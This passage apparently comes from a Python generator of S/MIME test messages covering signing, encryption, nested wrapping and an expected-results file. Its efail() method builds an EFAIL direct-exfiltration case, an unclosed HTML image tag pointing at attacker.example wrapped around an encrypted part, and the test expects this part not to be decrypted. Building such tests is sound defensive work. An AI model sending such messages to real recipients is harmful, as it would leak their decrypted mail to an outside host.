                  "certs-only message (application/pkcs7-mime; smime-type=certs-only) from openssl crl2pkcs7",
                  "none", signer=None)

    def encryption(self):
        def one(name, desc, cipher="aes-256-cbc", recipients=("alice",), p12=("alice",), oaep=False):
            ent, env = self.enveloped(self.text(name), recipients, cipher, oaep=oaep)
            gcm = "gcm" in cipher
            self.save(f"{name}.eml", ent, desc, "none", warnings=["encrypted_but_unsigned"], enc="decrypted",
                      p12=p12, authenticated=gcm, content_cipher=der.content_cipher(env))

        one("enc-aes256-cbc", "encrypted to alice, AES-256-CBC, RSA PKCS#1 v1.5 key transport; unsigned")
        one("enc-aes128-cbc", "encrypted to alice, AES-128-CBC, RSA PKCS#1 v1.5; unsigned", cipher="aes-128-cbc")
        one("enc-rsa-oaep", "encrypted to alice, AES-256-CBC, RSA-OAEP key transport; unsigned", oaep=True)
        one("enc-ecdh-p256-judy", "encrypted to judy (EC P-256): ECDH key agreement, AES-256-CBC; unsigned",
            recipients=("judy",), p12=("judy",))
        one("enc-aes256-gcm", "encrypted to alice, AES-256-GCM (AuthEnvelopedData); unsigned", cipher="aes-256-gcm")
        one("enc-two-recipients", "encrypted to bob and alice; alice's key decrypts", recipients=("bob", "alice"))

        name = "enc-aes256-gcm-tampered"
        env = der.flip_encrypted_content_byte(self.encrypt(self.text(name), cipher="aes-256-gcm"))
        self.save(f"{name}.eml", mime.pkcs7_mime(env, "authEnveloped-data"),
                  "AES-256-GCM to alice with one ciphertext bit flipped: the tag check must fail, no output",
                  "none", enc="failed", failure="integrity_check_failed", p12=["alice"],
                  authenticated=OMIT, content_cipher=OMIT)

        name = "enc-to-bob-no-key"
        ent, _ = self.enveloped(self.text(name), ("bob",))
        self.save(f"{name}.eml", ent, "encrypted only to bob; the call has only alice's key", "none",
                  enc="no_key", p12=["alice"], authenticated=OMIT, content_cipher=OMIT)

        # The .p7m arrives as a plain attachment (Content-Type application/octet-stream) and is the
        # only content: some clients send this; it is still the top-level entity, so decrypt it.
        name = "enc-smime-p7m-octet-stream"
        env = self.encrypt(self.text(name))
        ent = mime.pkcs7_mime(env, None, ctype="application/octet-stream")
        self.save(f"{name}.eml", ent, "the whole body is an smime.p7m attachment with Content-Type "
                  "application/octet-stream (enveloped to alice)", "none", warnings=["encrypted_but_unsigned"],
                  enc="decrypted", p12=["alice"], authenticated=False, content_cipher="aes-256-cbc")

    def nesting(self):
        name = "nested-sign-then-encrypt"
        ent, _ = self.enveloped(self.signed(self.text(name)))
        self.save(f"{name}.eml", ent, "alice signs (multipart/signed), then encrypts to alice (AES-256-CBC)",
                  "valid", enc="decrypted", p12=["alice"], signer="alice@example.org",
                  authenticated=False, content_cipher="aes-256-cbc")

        name = "nested-opaque-sign-then-encrypt"
        ent, _ = self.enveloped(self.opaque(self.text(name)))
        self.save(f"{name}.eml", ent, "alice signs (opaque signed-data), then encrypts to alice",
                  "valid", enc="decrypted", p12=["alice"], signer="alice@example.org",
                  authenticated=False, content_cipher="aes-256-cbc")

        name = "nested-sign-then-encrypt-gcm"
        ent, _ = self.enveloped(self.signed(self.text(name)), cipher="aes-256-gcm")
        self.save(f"{name}.eml", ent, "alice signs, then encrypts to alice with AES-256-GCM", "valid",
                  enc="decrypted", p12=["alice"], signer="alice@example.org", authenticated=True,
                  content_cipher="aes-256-gcm")

        name = "nested-encrypt-then-sign"
        env_ent, _ = self.enveloped(self.text(name))
        self.save(f"{name}.eml", self.signed(env_ent, "bob"),
                  "encrypted to alice, then bob signs the application/pkcs7-mime entity: the signature covers "
                  "only ciphertext", "none", warnings=["signature_outside_encryption", "encrypted_but_unsigned"], enc="decrypted",
                  p12=["alice"], frm=BOB, authenticated=False, content_cipher="aes-256-cbc")

        name = "nested-triple-wrap"
        env_ent, _ = self.enveloped(self.signed(self.text(name)))
        self.save(f"{name}.eml", self.signed(env_ent, "bob"),
                  "triple wrap: alice signs, encrypts to alice, bob signs the ciphertext entity outside",
                  "valid", warnings=["signature_outside_encryption"], enc="decrypted", p12=["alice"],
                  signer="alice@example.org", authenticated=False, content_cipher="aes-256-cbc")

        name = "nested-re-signed"
        inner = self.opaque(self.text(name))
        self.save(f"{name}.eml", self.opaque(inner, "bob"),
                  "alice signs (opaque); bob signs alice's whole signed entity again (opaque, From bob): "
                  "the outer signature decides", "valid",
                  warnings=["inner_signature"], frm=BOB, signer="bob@example.org")

        name = "nested-re-signed-multipart"
        inner = self.signed(self.text(name))
        self.save(f"{name}.eml", self.signed(inner, "bob"),
                  "alice signs (multipart/signed); bob wraps it in another multipart/signed (From bob): a "
                  "multipart/signed inside a signature is a misplaced layer, as in Thunderbird", "malformed",
                  reason="misplaced_layer", warnings=["inner_signature", "misplaced_layer"], frm=BOB)

    def efail(self):
        name = "efail-direct-exfiltration"
        env_ent, _ = self.enveloped(self.text(name))
        ent = mime.multipart("mixed", [
            mime.text_part('<img src="http://attacker.example/', subtype="html"),
            env_ent,
            mime.text_part('">', subtype="html")], self.boundary())
        self.save(f"{name}.eml", ent, "EFAIL direct exfiltration: unclosed <img src=\" HTML part, an enveloped "
                  "part (to alice), then '\">'; the encrypted part must not be decrypted", "none",
                  enc="none", enc_warnings=["encrypted_part_not_decrypted"], p12=["alice"])

        name = "efail-two-encrypted-siblings"
        a, _ = self.enveloped(mime.text_part("SECRET-TEXT one\n"))
        b, _ = self.enveloped(mime.text_part("SECRET-TEXT two\n"))
        ent = mime.multipart("mixed", [a, b], self.boundary())
        self.save(f"{name}.eml", ent, "two enveloped parts (both to alice) side by side in multipart/mixed",
                  "none", enc="none", enc_warnings=["multiple_encrypted_parts", "encrypted_part_not_decrypted"], p12=["alice"])

    def build(self):
        self.valid_signatures()
        self.interop_nss()
        self.interop_gpgsm()
        self.content_altered()
        self.weak_and_unsupported()
        self.sender()
        self.certificates()
        self.times()
        self.partial()
        self.malformed()
        self.signers()
        self.encryption()
        self.nesting()
        self.efail()
        names = [e["file"] for e in self.expected]
        assert len(names) == len(set(names)), "duplicate vector names"
        (self.out / "expected.json").write_text(json.dumps(self.expected, indent=1, ensure_ascii=False) + "\n")


def main():
    if len(sys.argv) != 3:
        sys.exit("usage: gen_vectors.py PKI_DIR OUTDIR")
    g = Generator(sys.argv[1], sys.argv[2])
    try:
        g.build()
    finally:
        g.cleanup()
    print(f"{len(g.expected)} vectors in {g.out}")


if __name__ == "__main__":
    main()
